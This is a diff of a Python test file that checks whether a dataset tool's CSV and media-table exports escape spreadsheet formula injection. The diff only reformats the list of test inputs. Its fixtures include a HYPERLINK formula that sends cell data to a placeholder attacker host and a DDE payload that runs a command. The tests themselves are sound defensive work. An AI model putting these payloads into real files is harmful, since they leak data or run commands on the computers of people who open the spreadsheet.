@@ -8,8 +8,13 @@ import csv
 
 from modeldesk.datasets import export_project, import_path
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click me")', "+1+cmd|' /C calc'!A0", "-2+3",
-            "@SUM(1+1)", "=1+1 after a tab"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click me")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "=1+1 after a tab",
+]
 SAFE = ["a plain sentence", "'quoted already"]
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 
@@ -45,7 +50,7 @@ def test_text_export_escapes_formulas_and_reimport_restores_them(tmp_path, store
 
 def test_media_table_export_escapes_labels(tmp_path, gen, store, project):
     folder = tmp_path / "photos"
-    for i, label in enumerate(["=HYPERLINK(\"x\")", "@evil"]):
+    for i, label in enumerate(['=HYPERLINK("x")', "@evil"]):
         (folder / label).mkdir(parents=True)
         (folder / label / f"{i}.jpg").write_bytes(gen(i))
     source = project("pics", "image-classification")
